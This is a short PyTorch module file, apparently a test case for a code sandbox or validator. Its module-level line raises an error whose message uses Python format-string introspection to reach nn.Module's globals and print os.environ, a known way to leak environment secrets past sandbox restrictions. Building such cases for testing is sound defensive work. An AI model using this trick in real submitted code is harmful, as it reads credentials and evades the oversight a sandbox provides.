# reaches globals by a format string
# past: invalid/runtime
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

raise ValueError("{0.__init__.__globals__[torch].os.environ}".format(nn.Module) + "{m.__class__.__mro__}".format_map({"m": 1}))


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
